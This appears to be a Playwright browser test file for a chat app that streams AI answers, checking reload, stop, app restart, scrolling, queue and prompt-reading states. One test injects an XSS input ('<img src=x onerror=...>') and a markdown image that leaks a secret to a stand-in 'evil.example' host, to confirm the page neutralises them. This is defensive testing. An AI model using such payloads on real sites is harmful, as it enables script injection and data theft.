"""Answers while they are written: reload, stop, restart of the app, scrolling, hostile text."""

import re

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from tests.app.markdown.corpus import LINKS, SCRIPTS
from tests.browser.chat import answers, box, footer, markup, say, wait_for_live_text, wait_until_complete
from tests.browser.conftest import RunningSite
from tests.scripted_backend import Gate, answer, delta, ending, message_start, ping

pytestmark = pytest.mark.browser

STARTED = message_start(usage={"input_tokens": 5, "cache_creation_input_tokens": 0, "cache_read_input_tokens": 0})


def test_reload_in_mid_answer_loses_and_repeats_nothing(
    site: RunningSite, signed_in: BrowserContext, page: Page
) -> None:
    pieces = {
        "Once ": "Once",
        "up": "Once up",
        "on\n": "Once upon",
        "a  time ": "Once upon\na  time",
        "**the": "Once upon\na  time the",
        "re ": "Once upon\na  time there",
        "now** ": "Once upon\na  time there now",
        "was a < b & c": "Once upon\na  time there now was a < b & c",
        "\n\n끝": "Once upon\na  time there now was a < b & c\n끝",
    }
    gates = [Gate() for _ in pieces]
    steps = [step for piece, gate in zip(pieces, gates, strict=True) for step in (delta(piece), gate)]
    site.backend.script(STARTED, *steps, *ending(output_tokens=7))
    page.goto("/")
    say(page, "A story")
    for so_far, gate in zip(pieces.values(), gates, strict=True):
        wait_for_live_text(page, so_far)
        page.reload()
        wait_for_live_text(page, so_far)
        other = signed_in.new_page()
        other.goto(page.url)
        wait_for_live_text(other, so_far)
        other.close()
        expect(page.get_by_role("button", name="Send")).to_be_hidden()
        gate.open()
    wait_until_complete(page, 1)
    expect(page.locator(".rendered strong")).to_have_text("there now")
    live = markup(page, 1)
    page.reload()
    assert markup(page, 1) == live
    assert page.locator("article").count() == 2
    assert len(site.backend.questions) == 1


def test_stop_button_keeps_the_text(site: RunningSite, signed_in: BrowserContext, page: Page) -> None:
    gate = Gate()
    site.backend.script(STARTED, delta("Begun"), gate, *ending(output_tokens=3))
    page.goto("/")
    say(page, "Go")
    wait_for_live_text(page, "Begun")
    page.get_by_role("button", name="Stop").click()
    wait_until_complete(page, 1)
    assert "stopped by you" in footer(page, 1)
    expect(answers(page)).to_contain_text("Begun")
    expect(page.locator("[data-announcer]")).to_have_text("The answer has ended.")
    site.backend.wait_for(lambda: site.backend.disconnects == 1)
    gate.open()
    say(page, "And now?")
    wait_until_complete(page, 2)


def test_escape_stops_before_the_first_token(site: RunningSite, signed_in: BrowserContext, page: Page) -> None:
    gate = Gate()
    site.backend.script(gate, *answer("late"))
    page.goto("/")
    say(page, "Go")
    gate.wait_arrived()
    expect(page.locator("[data-phase]")).to_be_visible()
    box(page).press("Escape")
    wait_until_complete(page, 1)
    expect(answers(page)).to_contain_text("No text was written.")
    gate.open()


def test_refused_stop_is_told_and_can_be_pressed_again(
    site: RunningSite, signed_in: BrowserContext, page: Page
) -> None:
    gate = Gate()
    site.backend.script(STARTED, delta("Begun"), gate, *ending(output_tokens=3))
    page.goto("/")
    say(page, "Go")
    wait_for_live_text(page, "Begun")
    cookies = signed_in.cookies()
    signed_in.clear_cookies()
    stop = page.get_by_role("button", name="Stop")
    stop.click()
    expect(page.locator(".composer .problem")).to_contain_text("You have been signed out.")
    signed_in.add_cookies(cookies)  # type: ignore[arg-type]  # What was given is what is taken.
    page.route("**/stop", lambda route: route.fulfill(status=503, body="<h1>Bad gateway</h1>"))
    stop.click()
    expect(page.locator(".composer .problem")).to_have_text(
        "The answer could not be stopped. Check the connection and press Stop again."
    )
    page.unroute("**/stop")
    stop.click()
    wait_until_complete(page, 1)
    expect(page.locator(".composer .problem")).to_have_count(0)
    assert "stopped by you" in footer(page, 1)
    gate.open()


def test_app_restart_in_mid_answer_ends_in_a_named_state(
    site: RunningSite, signed_in: BrowserContext, page: Page
) -> None:
    gate = Gate()
    site.backend.script(STARTED, delta("Half an ans"), gate, *ending(output_tokens=3))
    page.goto("/")
    say(page, "Go")
    wait_for_live_text(page, "Half an ans")
    site.restart()
    gate.open()
    wait_until_complete(page, 1)
    expect(answers(page).locator(".answer")).to_have_text("Half an ans")
    expect(answers(page).locator(".problem")).to_contain_text("restarted")
    assert "interrupted" in footer(page, 1)


def test_scrolling_up_is_left_alone(site: RunningSite, signed_in: BrowserContext, page: Page) -> None:
    gate, last = Gate(), Gate()
    lines = "".join(f"line {number}\n\n" for number in range(80))
    shown = "".join(f"line {number}\n" for number in range(80))
    site.backend.script(STARTED, delta(lines), gate, delta(lines), last, *ending(output_tokens=3))
    page.goto("/")
    say(page, "Go")
    wait_for_live_text(page, shown.strip())
    at_end = "() => document.documentElement.scrollHeight - scrollY - innerHeight < 5"
    page.wait_for_function(at_end)
    page.mouse.move(400, 300)
    page.mouse.wheel(0, -900)
    page.wait_for_function(f"() => !({at_end})()")
    place = page.evaluate("scrollY")
    gate.open()
    wait_for_live_text(page, (shown + shown).strip())
    assert page.evaluate("scrollY") == place
    page.get_by_role("button", name="Go to the latest text").click()
    page.wait_for_function(at_end)
    last.open()
    wait_until_complete(page, 1)


def test_hostile_text_does_nothing_live_and_after(site: RunningSite, signed_in: BrowserContext, page: Page) -> None:
    corpus = "\n\n".join([*SCRIPTS, *LINKS, "![x](https://evil.example/?q=secret)"]).replace(
        "alert(1)", "window.pwned=1"
    )
    gate = Gate()
    pieces = [corpus[at : at + 3] for at in range(0, len(corpus), 3)]
    site.backend.script(STARTED, *map(delta, pieces), gate, *ending(output_tokens=3))
    page.goto("/")
    say(page, "<img src=x onerror=window.pwned=1>")
    page.wait_for_function("() => document.querySelector('article.live')?.textContent.includes('https://evil')")
    assert page.evaluate("window.pwned") is None
    gate.open()
    wait_until_complete(page, 1)
    page.reload()
    for link in answers(page).locator(".answer a[href]").all():
        assert link.get_attribute("href").startswith(("http:", "https:", "mailto:"))  # type: ignore[union-attr]
    assert page.evaluate("window.pwned") is None
    assert page.locator(".answer :is(img, svg, iframe, form, script)").count() == 0


def test_place_in_the_queue_is_told_and_stop_works_there(
    site: RunningSite, signed_in: BrowserContext, page: Page
) -> None:
    gate = Gate()
    site.backend.script(ping(queue=2), gate, *answer("never"))
    page.goto("/")
    say(page, "Go")
    expect(page.locator("[data-phase]")).to_have_text("Waiting for its turn, place 2")
    page.get_by_role("button", name="Stop").click()
    wait_until_complete(page, 1)
    assert "stopped by you" in footer(page, 1)
    gate.open()


def test_stop_works_while_the_prompt_is_read(site: RunningSite, signed_in: BrowserContext, page: Page) -> None:
    gate = Gate()
    site.backend.script(STARTED, ping(prefill=(1900, 700, 760)), gate, *answer("never")[1:])
    page.goto("/")
    say(page, "Go")
    expect(page.locator("[data-phase]")).to_contain_text("40%")
    page.keyboard.press("Escape")
    wait_until_complete(page, 1)
    assert "stopped by you" in footer(page, 1)
    gate.open()


def test_silent_reading_is_told_in_seconds(site: RunningSite, signed_in: BrowserContext, page: Page) -> None:
    gate = Gate()
    site.backend.script(STARTED, gate, *answer("done")[1:])
    page.goto("/")
    say(page, "Go")
    expect(page.locator("[data-phase]")).to_have_text(re.compile(r"Reading the prompt for [2-9] s"))
    page.reload()
    expect(page.locator("[data-phase]")).to_have_text(re.compile(r"Reading the prompt for [2-9] s"))
    gate.open()
    wait_until_complete(page, 1)


def test_prefill_progress_is_told(site: RunningSite, signed_in: BrowserContext, page: Page) -> None:
    gate = Gate()
    site.backend.script(STARTED, ping(prefill=(1900, 700, 760)), gate, *answer("done")[1:])
    page.goto("/")
    say(page, "Go")
    told = "Reading the prompt: 40% (760 of 1,900 tokens, 700 of them from the cache)"
    expect(page.locator("[data-phase]")).to_have_text(told)
    page.reload()
    expect(page.locator("[data-phase]")).to_have_text(told)
    gate.open()
    wait_until_complete(page, 1)
